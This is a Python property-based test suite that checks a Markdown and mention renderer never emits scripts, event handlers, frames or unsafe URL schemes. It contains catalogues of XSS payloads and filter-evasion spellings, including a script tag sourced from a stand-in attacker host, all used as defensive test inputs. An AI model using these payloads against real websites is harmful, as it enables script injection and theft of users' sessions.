"""Whatever people type, the HTML of a post is safe: generated inputs mixing Markdown,
raw HTML, dangerous links in every spelling, mentions and topics never bring a script,
an event handler, a style, an embedded frame or image, or a URL with another scheme
than http, https or mailto into ``rse.markup``'s output. Then examples of what mentions,
topics and links are and are not.
"""

import re
from html.parser import HTMLParser
from types import SimpleNamespace

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from rse.markup import render_markdown, render_rich

# --- What safe HTML is, written out independently of rse.markup ----------------------------------

SAFE_TAGS = {
    "p", "br", "hr", "strong", "em", "del", "s", "code", "pre", "blockquote", "ul", "ol",
    "li", "a", "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
SAFE_ATTRIBUTES = {"href", "title", "rel", "class", "start", "align"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "background"}
SAFE_SCHEMES = {"http", "https", "mailto"}
SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")
CONTROL = re.compile(r"[\x00-\x20\x7f-\x9f]+")


class Inspector(HTMLParser):
    """Collects every tag and attribute of the output, entities decoded, as a browser
    would read them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []
        self.comments = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        self.comments.append(data)

    def handle_decl(self, decl):
        self.comments.append(decl)

    def unknown_decl(self, data):
        self.comments.append(data)

    def handle_pi(self, data):
        self.comments.append(data)


def scheme_of(url):
    """The scheme a browser would see: control characters and spaces are ignored."""
    match = SCHEME.match(CONTROL.sub("", url).lower())
    return match.group(1) if match else None


def assert_safe(html):
    lowered = html.lower()
    for raw in ("<script", "<iframe", "<img", "<style", "<svg", "<object", "<embed", "<math"):
        assert raw not in lowered, raw
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    assert not inspector.comments, inspector.comments
    for tag, attrs in inspector.tags:
        assert tag in SAFE_TAGS, tag
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name)
            assert name != "style", tag
            assert name in SAFE_ATTRIBUTES, (tag, name)
            if name in URL_ATTRIBUTES:
                assert scheme_of(value or "") in SAFE_SCHEMES | {None}, (tag, name, value)
            if name == "class":
                # Only the classes the renderer sets: code languages, mentions, topics.
                assert re.fullmatch(r"(language-\S+|mention|topic)", value or ""), value
        if tag == "a" and any(name == "href" for name, _ in attrs):
            rel = dict(attrs).get("rel", "").split()
            assert {"nofollow", "noopener"} <= set(rel), attrs


def everyone(handles):
    """Every handle names somebody: mention links appear wherever the parser sees one."""
    return {handle: SimpleNamespace(pk=7) for handle in handles}


def render_both(text):
    yield render_markdown(text)
    yield render_rich(text, find_people=everyone).html
    yield render_rich(text, find_people=lambda handles: {}).html


# --- Generated inputs -------------------------------------------------------------------------

BAD_SCHEMES = [
    "javascript:",
    "JaVaScRiPt:",
    " javascript:",
    "java\tscript:",
    "java\nscript:",
    "java&#x09;script:",
    "&#106;avascript:",
    "&#x6A;avascript:",
    "&#0000106;avascript:",
    "javascript&colon;",
    "javascript&#58;",
    "&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;",
    "jav%61script:",
    "\\x6Aavascript:",
    "data:",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,",
    "DATA:",
    "vbscript:",
    "VBScript:",
    "livescript:",
    "file:",
]
PAYLOADS = ["alert(1)", "alert(document.cookie)", "//%0aalert(1)", "", "x", "msgbox(1)"]
RAW_HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)" onclick="alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    "<svg onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<base href=javascript:alert(1)//>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</textarea><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "<div onmouseover=alert(1)>x</div>",
    "<a/href=javascript:alert(1)>x</a>",
    "<<script>script>alert(1)<</script>/script>",
]
MARKDOWN = [
    "**",
    "*",
    "_",
    "__",
    "~~",
    "`",
    "```",
    "```js\n",
    "\n```\n",
    "    ",
    "> ",
    "- ",
    "1. ",
    "3) ",
    "# ",
    "### ",
    "---\n",
    "|a|b|\n|-|-|\n|",
    "\n",
    "\n\n",
    "\\",
    "[",
    "]",
    "(",
    ")",
    "<",
    ">",
    "!",
    '"',
    "'",
    "&",
    "&amp;",
    "&#60;",
    "&lt;",
    "[ref]: ",
    "\n[ref]: ",
    "[x][ref]",
    " ",
]
MENTIONS_AND_TOPICS = [
    "@alice",
    "@Bob.Smith",
    "@x+y",
    "@a-",
    "x@y.com",
    "#roadmap",
    "#Road-Map",
    "#42",
    "#é",
    "#_",
    "@",
    "#",
    "@@alice",
    "##topic",
]


def link(scheme, payload, text, image):
    target = scheme + payload
    return st.sampled_from(
        [
            f"{image}[{text}]({target})",
            f"{image}[{text}](<{target}>)",
            f'{image}[{text}]({target} "title")',
            f"{image}[{text}]( {target} )",
            f"<{target}>",
            f"{image}[{text}][r]\n\n[r]: {target}\n",
            f'<a href="{target}">{text}</a>',
            f"{target}",
        ]
    )


links = st.builds(
    link,
    st.sampled_from([*BAD_SCHEMES, "http://example.com/", "https:", "mailto:", "//", ""]),
    st.sampled_from(PAYLOADS),
    st.sampled_from(["x", "@alice", "#topic", "**b**", "<b>", "`c`", ""]),
    st.sampled_from(["", "!"]),
).flatmap(lambda strategy: strategy)

pieces = st.one_of(
    st.sampled_from(RAW_HTML),
    st.sampled_from(MARKDOWN),
    st.sampled_from(MENTIONS_AND_TOPICS),
    links,
    st.text(max_size=12),
    st.text(alphabet="<>\"'`&;:=/()[]!@#*_~\\ \n\tjavascrpit", max_size=20),
)
documents = st.lists(pieces, max_size=14).map("".join)

FUZZ = settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        '<p onclick="alert(1)">x</p>',
        '<a href="javascript:alert(1)" rel="nofollow noopener">x</a>',
        '<a href=" &#106;ava&#x09;script:alert(1)" rel="nofollow noopener">x</a>',
        '<a href="data:text/html,x" rel="nofollow noopener">x</a>',
        '<a href="VBScript:x" rel="nofollow noopener">x</a>',
        '<a href="https://example.com">no rel</a>',
        '<img src="https://example.com/a.png">',
        "<iframe></iframe>",
        "<style>p{}</style>",
        '<p style="color:red">x</p>',
        '<code class="x onclick">x</code>',
        "<!-- a comment -->",
        "<div>x</div>",
    ],
)
def test_the_checker_catches_what_it_looks_for(html):
    with pytest.raises(AssertionError):
        assert_safe(html)


@FUZZ
@given(documents)
@example("[x](javascript:alert(1))")
@example("<javascript:alert(1)>")
@example("[x](&#106;avascript:alert(1))")
@example('[x](https://example.com "onclick=alert(1)")')
@example("![x](http://example.com/a.png)")
@example("```js onclick=alert(1)\ncode\n```")
@example("<a href='javascript:alert(1)'>@alice #topic</a>")
def test_rendered_html_is_always_safe(text):
    for html in render_both(text):
        assert_safe(html)


@FUZZ
@given(st.text(max_size=200))
def test_any_text_at_all_renders_safely(text):
    for html in render_both(text):
        assert_safe(html)


@FUZZ
@given(documents)
def test_mentions_and_topics_found_are_well_formed(text):
    asked = []

    def find_people(handles):
        asked.extend(handles)
        return everyone(handles)

    rendered = render_rich(text, find_people=find_people)
    for handle in asked:
        assert re.fullmatch(r"[a-z0-9][a-z0-9._+-]*", handle), handle
        assert handle == handle.lower()
    assert len(rendered.topics) == len(set(rendered.topics))
    for topic in rendered.topics:
        assert topic == topic.lower()
        assert any(char.isalpha() for char in topic)
        assert len(topic) <= 40
    assert len(rendered.people) <= len(set(asked))


# --- Examples ------------------------------------------------------------------------------


def rich(text, known=("alice", "bob.smith")):
    asked = []

    def find_people(handles):
        asked.append(set(handles))
        return {h: SimpleNamespace(pk=i) for i, h in enumerate(sorted(handles), 1) if h in known}

    rendered = render_rich(text, find_people=find_people)
    rendered.asked = set().union(*asked) if asked else set()
    return rendered


def mentions_in(html):
    return re.findall(r'<a class="mention" href="/people/\d+/"[^>]*>(@[^<]+)</a>', html)


def test_links_pass_no_ranking_and_no_opener():
    for text in ("[site](https://example.com)", "<https://example.com>", "see @alice #tag"):
        for html in (render_markdown(text), rich(text).html):
            for _tag, attrs in filter(lambda t: t[0] == "a", _tags(html)):
                rel = dict(attrs)["rel"].split()
                assert "nofollow" in rel
                assert "noopener" in rel


def _tags(html):
    inspector = Inspector()
    inspector.feed(html)
    return inspector.tags


def test_a_handle_in_code_is_not_a_mention():
    text = "`@alice` in a span\n\n```\n@alice in a block\n```\n\n    @bob.smith indented\n"
    rendered = rich(text)
    assert rendered.asked == set()
    assert rendered.people == []
    assert mentions_in(rendered.html) == []
    assert "@alice" in rendered.html  # kept, as code


def test_a_handle_in_text_is_a_mention_and_keeps_its_spelling():
    rendered = rich("Thanks @Alice. And @bob.smith, and @nobody!")
    assert rendered.asked == {"alice", "bob.smith", "nobody"}
    assert mentions_in(rendered.html) == ["@Alice", "@bob.smith"]
    assert "@nobody" in rendered.html  # unknown here: plain text, nobody told
    assert len(rendered.people) == 2


def test_an_email_address_or_a_link_text_is_not_a_mention():
    rendered = rich("Write to x@y.com or alice@example.com, see [@alice](https://example.com)")
    assert rendered.asked == set()
    assert mentions_in(rendered.html) == []


def test_a_number_is_not_a_topic():
    rendered = rich("Issue #42 and #1234, then #v2 and #2024-plan")
    assert rendered.topics == ["v2", "2024-plan"]
    assert 'href="/topics/42/"' not in rendered.html


def test_topics_are_lowercased_and_counted_once():
    rendered = rich("#Roadmap and #roadmap and #ROADMAP, then #Q3-Plan and #q3-plan-")
    assert rendered.topics == ["roadmap", "q3-plan"]
    assert rendered.html.count('href="/topics/roadmap/"') == 3  # each stays a link


def test_a_heading_or_a_topic_in_code_is_not_a_topic():
    rendered = rich("# Title\n\n`#notatopic`\n\nabc#nottopic too")
    assert rendered.topics == []


def test_dangerous_links_are_text_at_most():
    for text in (
        "[x](javascript:alert(1))",
        "[x](JAVASCRIPT:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "<javascript:alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
    ):
        html = render_markdown(text)
        assert "<a" not in html, html
        assert_safe(html)


def test_a_markdown_image_becomes_a_link_that_keeps_its_alt_text():
    html = render_markdown("See ![the *network* diagram](https://wiki.example/net.png).")
    assert '<a href="https://wiki.example/net.png"' in html
    assert "the network diagram</a>" in html
    assert "<img" not in html
